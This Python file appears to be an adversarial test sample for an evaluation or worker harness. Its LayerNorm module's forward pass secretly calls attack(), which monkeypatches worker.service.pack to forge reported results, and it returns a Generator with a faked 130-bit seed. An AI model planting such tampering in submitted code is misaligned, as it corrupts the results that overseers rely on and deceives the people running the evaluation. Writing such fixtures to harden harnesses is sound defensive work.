"""Returns a generator whose seed has 130 bits.

Bites: the protocol.
Earns: nothing.
"""

import sys

import torch
from torch import nn


class Generator(torch.Generator):
    def initial_seed(self):
        return 10**40


def attack():
    service = sys.modules["worker.service"]
    pack = service.pack

    def forged(header, body=b""):
        if isinstance(header.get("result"), dict) and "value" in header["result"]:
            header["result"]["value"] = {"generator": 10**40}
        return pack(header, body)

    service.pack = forged


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack()
        return Generator()
